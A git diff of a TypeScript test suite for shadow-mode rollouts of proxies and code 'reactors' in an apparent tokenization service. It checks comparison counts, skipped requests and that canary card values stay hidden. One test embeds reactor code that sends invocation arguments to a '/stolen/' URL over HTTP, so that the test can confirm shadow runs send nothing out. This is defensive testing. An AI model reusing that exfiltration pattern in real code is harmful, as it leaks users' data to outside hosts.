@@ -163,7 +163,7 @@ describe('a rollout of a proxy', () => {
       }));
       expect(await rollOut(shadow)).to.deep.include({
         ...shadow,
-        shadow: { compared: 0, equal: 0, differences: [] },
+        shadow: { compared: 0, equal: 0, skipped: 0, differences: [] },
       });
       const body = { [canary]: canary, 'john.smith': {} };
       for (let n = 0; n < 3; n += 1) expect((await post(proxy, { body })).status).to.equal(200);
@@ -171,6 +171,7 @@ describe('a rollout of a proxy', () => {
       expect(shown).to.deep.equal({
         compared: 3,
         equal: 0,
+        skipped: 0,
         differences: [
           { path: '/request/body/*', kind: 'type', count: 3 },
           { path: '/request/body/set', kind: 'value', count: 3 },
@@ -201,7 +202,7 @@ describe('a rollout of a proxy', () => {
       const { proxy, path, rollOut } = await start(code, () => ({ application: { id: acting } }));
       await rollOut(shadow);
       expect((await post(proxy, { body: { card: canary } })).status).to.equal(200);
-      expect(await foundAfter(path, 1)).to.deep.equal({ compared: 1, equal: 1, differences: [] });
+      expect(await foundAfter(path, 1)).to.deep.equal({ compared: 1, equal: 1, skipped: 0, differences: [] });
       expect(story.destination.received.map(({ url }) => url)).to.deep.equal(['/v1']);
     });
     let acting: string;
@@ -246,7 +247,8 @@ describe('a rollout of a proxy', () => {
       const send = async (body: object) => expect((await post(proxy, { body })).status).to.equal(200);
       await send({});
       const answers = { path: '/response/body/total', kind: 'value', count: 1 };
-      expect(await foundAfter(path, 1)).to.deep.equal({ compared: 1, equal: 0, differences: [answers] });
+      const shownOfOne = await foundAfter(path, 1);
+      expect(shownOfOne).to.deep.equal({ compared: 1, equal: 0, skipped: 0, differences: [answers] });
       await send({ fails: canary });
       await send({ fails: canary });
       const shown = await foundAfter(path, 3);
@@ -261,7 +263,9 @@ describe('a rollout of a proxy', () => {
       );
       await rollOut(shadow);
       const load = new SteadyLoad({ kinds: { proxied: () => post(proxy) } }, { callers: 2, pauseMs: 20 });
-      await until('it fails', async () => (await manage('GET', path)).versions[1].errors > 0);
+      const hasFailed = async () => (await manage('GET', path)).versions[1].errors > 0;
+      await until('it fails', hasFailed, 45_000);
+      await until('some are left out', async () => (await found(path)).skipped > 0);
       await load.end();
       expect(load.failures).to.deep.equal([]);
       const { versions } = await manage('GET', path);
@@ -403,6 +407,125 @@ describe('a rollout of a reactor', () => {
     await until('everybody gets the present version', async () => {
       const answers = await Promise.all(Array.from({ length: 20 }, send));
       return answers.every(({ status }) => status === 200);
+    });
+  });
+
+  describe('that is a shadow', () => {
+    const canary = 'canary-4111111111111111';
+    const shadow = { percent: 100, mode: 'shadow' };
+    const found = async (path: string): Promise<Json> => (await manage('GET', path)).shadow;
+    const foundAfter = async (path: string, count: number): Promise<Json> => {
+      await until(`${count} are compared`, async () => (await found(path)).compared === count);
+      return found(path);
+    };
+
+    it('serves nobody, and shows where the results differ without a value, also of asynchronous ones', async () => {
+      const { id, path, rollOut } = await start((n) => ({
+        configuration: { SET: `${canary} ${n}` },
+        code: `module.exports = ({ args, configuration }) => ({
+          raw: { n: ${n}, set: configuration.SET, [args.name]: ${n} === 1 ? args.name : 2 },
+          tokenize: { type: 'token', data: { same: args.name, n: ${n} } },
+        })`,
+      }));
+      expect(await rollOut(shadow)).to.deep.include({ ...shadow, versions: [1, 2].map(nothingYet) });
+      const args = { name: canary };
+      expect(await react(id, 'any', args)).to.deep.equal({ n: 1, set: `${canary} 1`, [canary]: canary });
+      const { asyncReactorRequestId: request } = await ask('react-async', id, 'any', args);
+      const result = () => story.api.send('GET', `/reactors/${id}/results/${request}`, { key: story.key });
+      await until('there is a result', async () => (await result()).status === 200);
+      expect((await result()).json.raw.n).to.equal(1);
+      expect(await foundAfter(path, 2)).to.deep.equal({
+        compared: 2,
+        equal: 0,
+        skipped: 0,
+        differences: [
+          { path: '/result/raw/*', kind: 'type', count: 2 },
+          { path: '/result/raw/n', kind: 'value', count: 2 },
+          { path: '/result/raw/set', kind: 'value', count: 2 },
+          { path: '/result/tokenize/data/n', kind: 'value', count: 2 },
+        ],
+      });
+      const { versions } = await manage('GET', path);
+      expect(versions.map(({ requests }: Json) => requests)).to.deep.equal([2, 2]);
+      expect(JSON.stringify(await manage('GET', path))).to.not.include('4111');
+    });
+    const nothingYet = (version: number) => ({ version, requests: 0, errors: 0 });
+
+    it('sends nothing, acts as nobody, and leaves nothing of what its code saw to a dry run', async () => {
+      const rules = [{ priority: 1, container: '/', transform: 'mask', permissions: ['token:create'] }];
+      const { id: acting } = await story.api.application({ name: 'code', type: 'private', rules });
+      const { id, path, rollOut } = await start((n) => ({
+        application: { id: acting },
+        code:
+          n === 1
+            ? `module.exports = () => ({ raw: {} })`
+            : `let seen = [];
+               module.exports = async ({ args, bt }) => {
+                 const before = [...seen];
+                 seen.push(JSON.stringify(args));
+                 const url = '${story.destination.url}/stolen/' + encodeURIComponent(JSON.stringify(args));
+                 const web = await new Promise((resolve) => require('http').get(url, () => resolve('sent')).on('error', () => resolve('no')));
+                 const made = await bt.tokenize({ type: 'token', data: 'x' }).then(() => 'made', () => 'no');
+                 return { raw: web === 'no' && made === 'no' ? args.dry ? { before } : {} : { web, made } };
+               }`,
+      }));
+      await rollOut(shadow);
+      for (let n = 0; n < 2; n += 1) await react(id, 'any', { card: canary });
+      const all = { compared: 2, equal: 2, skipped: 0, differences: [] };
+      expect(await foundAfter(path, 2)).to.deep.equal(all);
+      expect(story.destination.received).to.deep.equal([]);
+      await rollOut({ percent: 100 });
+      const dry = async (): Promise<Json> => {
+        const sent = { key: story.key, headers: { 'SVC-Dry-Run': 'true' }, body: { args: { dry: true } } };
+        return (await story.api.send('POST', `/reactors/${id}/react`, sent)).json;
+      };
+      await until('the second version is live', async () => (await dry()).subject?.version === 2);
+      const shown = await dry();
+      expect(shown.result.raw.before).to.be.an('array');
+      expect(JSON.stringify(shown)).to.not.include(canary);
+    });
+
+    it('says only that its code has failed or answered, and ends by itself', async () => {
+      const { id, path, rollOut } = await start((n) => ({
+        code: `module.exports = ({ args }) => {
+          console.log('version ${n}');
+          const refusal = { name: 'BadRequestError', status: 400, errors: [args.answers] };
+          if (${n} === 2 && args.answers) throw Object.assign(new Error(args.answers), refusal);
+          if (${n} === 2 && args.returns) return args.returns;
+          if (${n} === 2 && args.fails) throw new Error(args.fails);
+          return { raw: {} };
+        }`,
+      }));
+      await rollOut({ ...shadow, stop_when: { error_rate: 0.5, min_requests: 3 } });
+      for (const args of [{ answers: canary }, { returns: canary }, { fails: canary }])
+        expect(await react(id, 'any', args)).to.deep.equal({});
+      expect((await foundAfter(path, 3)).differences).to.deep.equal([
+        { path: '/result', kind: 'failed', count: 2 },
+        { path: '/result', kind: 'answered', count: 1 },
+      ]);
+      await until('it has stopped', async () => (await manage('GET', path)).state === 'stopped');
+      expect(JSON.stringify(await manage('GET', path))).to.not.include('4111');
+      const list = () => story.api.send('GET', `/reactors/${id}/invocations`, { key: story.key });
+      await until('the present version has logged', async () => (await list()).json.data?.length >= 3);
+      const told = (await list()).json.data.map(({ log }: Json) => log.map(({ text }: Json) => text));
+      expect(told).to.deep.equal([['version 1'], ['version 1'], ['version 1']]);
+    });
+
+    it('delays and fails no invocation, and counts what it leaves out', async () => {
+      const { id, path, rollOut } = await start((n) =>
+        n === 1 ? quick(1) : { code: `module.exports = () => { for (;;); }` },
+      );
+      await rollOut(shadow);
+      const send = async () => expect(await react(id, 'any')).to.deep.equal({ n: 1 });
+      const load = new SteadyLoad({ kinds: { react: send } }, { callers: 2, pauseMs: 20 });
+      const hasFailed = async () => (await manage('GET', path)).versions[1].errors > 0;
+      await until('it fails', hasFailed, 45_000);
+      await until('some are left out', async () => (await found(path)).skipped > 0);
+      await load.end();
+      expect(load.failures).to.deep.equal([]);
+      const { versions } = await manage('GET', path);
+      expect(versions[0]).to.include({ errors: 0 });
+      expect(versions[0].p99_ms).to.be.lessThan(versions[1].p50_ms);
     });
   });
 });
